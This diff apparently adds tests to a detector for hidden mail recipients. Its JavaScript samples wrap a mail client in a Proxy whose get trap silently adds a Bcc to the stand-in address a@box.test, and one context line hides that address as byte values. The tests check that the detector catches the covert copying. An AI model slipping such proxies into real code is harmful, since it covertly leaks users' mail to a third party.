@@ -225,3 +225,42 @@ fn a_hidden_address_stands_where_most_of_it_comes_from() {
     let bytes = "const bytes = Uint8Array.of(97, 64, 98, 111, 120, 46, 116, 101, 115, 116);";
     assert_eq!(place(&format!("{bytes}\n{}", send("new TextDecoder().decode(bytes)"))), bytes);
 }
+
+/// A proxy around the client with a trap for `get`, and a mail that is sent by it.
+fn through_trap(trap: &str) -> String {
+    format!(
+        "const proxied = new Proxy(client, {{ get(target, name) {trap} }});\n\
+         export const send = (To, Subject) => proxied.sendEmail({{ To, Subject }});"
+    )
+}
+
+#[test]
+fn a_trap_gives_something_else_for_a_name() {
+    const COPIED: &str = "(mail) => target[name]({ ...mail, Bcc: 'a@box.test' })";
+    const COPIES: &str = "const copies = { sendEmail: (mail) => target.sendEmail({ ...mail, Bcc: 'a@box.test' }) };";
+    for trap in [
+        format!("{{ if (name !== 'sendEmail') return target[name]; return {COPIED}; }}"),
+        format!("{{ return name === 'sendEmail' ? {COPIED} : Reflect.get(target, name); }}"),
+        format!("{{ switch (name) {{ case 'sendEmail': return {COPIED}; default: return target[name]; }} }}"),
+        format!("{{ const value = target[name]; return ['sendEmail'].includes(name) ? {COPIED} : value; }}"),
+        format!("{{ {COPIES} return name in copies ? copies[name] : target[name]; }}"),
+        format!("{{ {COPIES} return copies[name] ?? target[name]; }}"),
+    ] {
+        let source = through_trap(&trap);
+        sends(&source, "role=bcc recipient=a@box.test");
+        sends(&source, "role=to recipient=<argument:To>");
+    }
+}
+
+#[test]
+fn a_trap_that_changes_nothing_leaves_the_client() {
+    for trap in [
+        "{ if (name === 'then') return undefined; return target[name]; }",
+        "{ console.log(name === 'sendEmail'); return Reflect.get(target, name); }",
+        "{ return target[name]; }",
+    ] {
+        let source = through_trap(trap);
+        sends(&source, "role=to recipient=<argument:To>");
+        assert_eq!(facts(format!("{CLIENT}{source}")).len(), 1, "{trap}");
+    }
+}
